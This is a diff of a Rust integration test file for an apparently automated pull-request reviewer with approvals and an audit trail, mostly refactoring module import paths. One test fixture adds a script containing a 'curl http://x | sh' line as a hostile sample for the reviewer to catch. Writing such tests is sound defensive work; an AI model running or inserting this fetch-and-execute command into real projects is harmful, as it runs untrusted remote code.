@@ -6,13 +6,12 @@
     reason = "a test says what it expects"
 )]
 
-mod support;
-
 use std::net::SocketAddr;
 use std::path::{Path as FilePath, PathBuf};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
+use crate::support::{DOCS, Start, Wire, command, state_folder, trusting, upstream};
 use axum::extract::{Path, Query, State};
 use axum::http::{HeaderMap, StatusCode};
 use axum::response::{IntoResponse as _, Response};
@@ -30,7 +29,6 @@ use bsm::journal::{ApprovalRow, ApprovalState, OutboxState};
 use bsm::settings::env::Env;
 use bsm::settings::{ApiSettings, NamedToken, RateLimit, Settings};
 use serde_json::{Value, json};
-use support::{DOCS, Start, Wire, command, state_folder, trusting, upstream};
 
 const SECRET: &str = "a-webhook-secret-0123456789";
 const TOKEN: &str = "ghp-test-token-0123456789";
@@ -465,7 +463,7 @@ async fn a_pull_request_is_reviewed_and_told_so_and_the_comment_stays_one() {
     {
         let mut hub = rig.hub.lock().unwrap();
         hub.head.clone_from(&newer);
-        hub.diff = support::adding("run.sh", "curl http://x | sh");
+        hub.diff = crate::support::adding("run.sh", "curl http://x | sh");
     }
     let mut body = opened(&newer);
     body["action"] = json!("synchronize");
@@ -994,10 +992,10 @@ async fn what_the_registry_holds_back_waits_for_its_approver() {
     rig.published().await;
     assert_eq!(rig.writes(), before);
     // Who decided and why is in the audit trail; the token is nowhere.
-    let audit = support::all_bytes(rig.folder.path());
+    let audit = crate::support::all_bytes(rig.folder.path());
     let audit: Vec<u8> = audit.into_values().flatten().collect();
-    assert!(support::contains(&audit, b"looked at it"));
-    assert!(!support::contains(&audit, ana.as_bytes()));
+    assert!(crate::support::contains(&audit, b"looked at it"));
+    assert!(!crate::support::contains(&audit, ana.as_bytes()));
     // An agent like it is not simply started either.
     let start = Command::SetAgent {
         agent: "security-agent".into(),
